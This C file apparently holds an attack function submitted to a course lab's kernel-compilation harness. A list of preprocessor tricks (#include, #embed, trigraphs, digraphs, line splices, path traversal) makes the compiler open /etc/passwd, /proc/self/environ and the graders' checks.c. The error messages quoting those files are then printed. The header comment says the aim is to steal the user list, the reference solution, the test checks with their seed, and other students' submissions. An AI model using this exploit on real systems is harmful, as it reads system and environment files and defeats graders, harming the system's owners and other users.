/* Tries to read files of the device process by the compiler of kernels: it includes them and prints the messages, which
 * quote lines. Gains the list of users, the solution, the checks with their seed, and other submissions. */
#include <stdio.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const char *sources[] = {"#include </etc/passwd>\n",
                             "#include \"/proc/self/environ\"\n",
                             "#include \"../../../../../../etc/passwd\"\n",
                             "#define F \"/etc/passwd\"\n#include F\n",
                             "#import </etc/passwd>\n",
                             "#include_next </etc/passwd>\n",
                             "#if __has_include(\"/etc/passwd\")\n#error it is there\n#endif\n",
                             "??=include \"/etc/passwd\"\n",
                             "%:include \"/etc/passwd\"\n",
                             "#inc\\\nlude \"/etc/passwd\"\n",
                             "#/**/include/**/\"/etc/passwd\"\n",
                             "#pragma clang module import \"/etc/passwd\"\n",
                             "#include \"checks.c\"\n",
                             "#include \"../lab01-streams/checks.c\"\n",
                             "_Pragma(\"include_alias(x, y)\")\n#include <../../../etc/passwd>\n",
                             "const char x[] = {\n#embed \"/etc/passwd\"\n};\n"};
    lab_module *module;
    for (size_t i = 0; i < sizeof sources / sizeof *sources; i++) {
        if (lab_module_load_source(&module, sources[i], "/etc/x.cu")) printf("%.700s\n", lab_error_message());
        fflush(stdout);
    }
    return LAB_SUCCESS;
}
